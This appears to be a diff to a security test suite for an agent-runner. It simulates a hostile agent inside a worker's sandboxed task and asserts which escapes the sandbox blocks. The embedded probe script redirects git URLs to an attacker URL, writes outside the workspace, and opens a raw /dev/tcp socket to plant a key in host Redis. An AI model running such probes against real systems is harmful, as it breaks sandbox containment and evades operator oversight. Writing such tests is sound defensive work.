@@ -6,7 +6,8 @@ import os from "node:os";
 import path from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { startSandbox, type Sandbox } from "@agent-runner/github-sandbox";
-import { formatA, REDIS_URL, ServiceProcess, waitFor } from "@agent-runner/test-kit";
+import { Redis } from "ioredis";
+import { formatA, REDIS_URL, RedisServerProcess, ServiceProcess, waitFor } from "@agent-runner/test-kit";
 import { startPipeline, type Pipeline } from "../test-support/pipeline.js";
 
 /**
@@ -59,9 +60,10 @@ printf '[url "%s"]\n\tinsteadOf = %s\n' "$ATTACKER_URL/" "$GIT_BASE_URL/" >> "$H
 if listing=$(ls "$PROBE_WORKSPACE" 2>/dev/null); then say "workspace-listed: $(echo $listing | tr '\n' ' ')"; else say "workspace-listed: no"; fi
 if echo planted > "$PROBE_WORKSPACE/planted-by-agent" 2>/dev/null; then say "outside-write: written"; else say "outside-write: refused"; fi
 
-# 4. Redis (and so the queue) on the host's loopback.
-if reply=$(timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$PROBE_REDIS_PORT"' && printf "PING\r\n" >&3 && head -c 5 <&3' 2>/dev/null); then
-  say "redis: $reply"
+# 4. Redis (and so the queue) on the host's loopback: a PING, then a write of a key of its own.
+if reply=$(timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$PROBE_REDIS_PORT"' || exit 1
+    printf "PING\r\nSET agent-probe:%s planted\r\n" "$0" >&3; timeout 1 cat <&3; exit 0' "$PROBE_MARKER" 2>/dev/null); then
+  say "redis: $(printf '%s' "$reply" | tr -d '\r' | tr '\n' ' ')"
 else
   say "redis: unreachable"
 fi
@@ -137,10 +139,14 @@ describe("a hostile agent in a real worker's task", () => {
     workerProcess = undefined;
     await pipeline?.close();
     pipeline = undefined;
-    // The control run's daemon does outlive its task: that is what it shows. Stop it here.
+    // The control run's daemon does outlive its task: that is what it shows. Stop it here, and remove
+    // the key an agent that reached Redis wrote.
+    const redis = new Redis(REDIS_URL, { maxRetriesPerRequest: 1 });
     for (const marker of markers.splice(0)) {
       for (const pid of await survivors(marker)) process.kill(pid, "SIGKILL");
+      await redis.del(`agent-probe:${marker}`);
     }
+    redis.disconnect();
     for (const dir of workspaces.splice(0)) await rm(dir, { recursive: true, force: true });
   });
 
@@ -174,7 +180,7 @@ describe("a hostile agent in a real worker's task", () => {
     // What the agent is told, through the allowlist: everything it needs to aim, nothing it could not guess.
     const probes: Record<string, string> = {
       PROBE_WORKSPACE: workspaceDir,
-      PROBE_REDIS_PORT: new URL(process.env["REDIS_URL"] ?? "redis://127.0.0.1:6379").port || "6379",
+      PROBE_REDIS_PORT: new URL(env["REDIS_URL"] ?? REDIS_URL).port || "6379",
       PROBE_MARKER: marker,
       ATTACKER_URL: attacker.url,
       GIT_BASE_URL: sandbox.gitUrl,
@@ -257,7 +263,7 @@ describe("a hostile agent in a real worker's task", () => {
     expect(report).toContain(`token-found-in-file: ${sandbox.tokens.owner}`);
     expect(report).toMatch(/workspace-listed: .*mirrors/);
     expect(report).toContain("outside-write: written");
-    expect(report).toContain("redis: +PONG");
+    expect(report).toContain("redis: +PONG +OK");
     expect(await survivors(marker)).not.toEqual([]);
     // Even unsandboxed, the agent's rewritten git configuration does not carry the token away: the worker's
     // git pushes to the clone URL's origin only and reads no configuration the task wrote.
@@ -323,9 +329,36 @@ describe("a hostile agent in a real worker's task", () => {
   it("reaches the host's loopback only when the operator turns the network on", async () => {
     const { report } = await runHostileTask("network-task-1", { AGENT_NETWORK: "true" });
 
-    expect(report).toContain("redis: +PONG");
+    expect(report).toContain("redis: +PONG +OK");
     // Everything else stays shut.
     expect(report).not.toMatch(/token-found/);
     expect(report).toContain("workspace-listed: no");
+  });
+
+  it("reaches a Redis that requires a password with the network on, but can neither read nor write it", async () => {
+    const password = randomBytes(12).toString("hex");
+    const guarded = await RedisServerProcess.start({ password });
+    try {
+      const { report, marker } = await runHostileTask("guarded-network-task-1", {
+        AGENT_NETWORK: "true",
+        REDIS_URL: guarded.address,
+        REDIS_PASSWORD: password,
+      });
+      // It connected (Redis answered it), and every command was refused: the worker's password is not
+      // in the sandbox. The worker itself, with the password, ran the whole task through that Redis.
+      expect(report).toContain("redis: -NOAUTH");
+      expect(report).not.toContain("+OK");
+      expect(report).not.toContain(password);
+      const admin = new Redis(guarded.url, { maxRetriesPerRequest: 1 });
+      try {
+        expect(await admin.exists(`agent-probe:${marker}`)).toBe(0);
+      } finally {
+        admin.disconnect();
+      }
+    } finally {
+      await pipeline?.close();
+      pipeline = undefined;
+      await guarded.destroy();
+    }
   });
 });
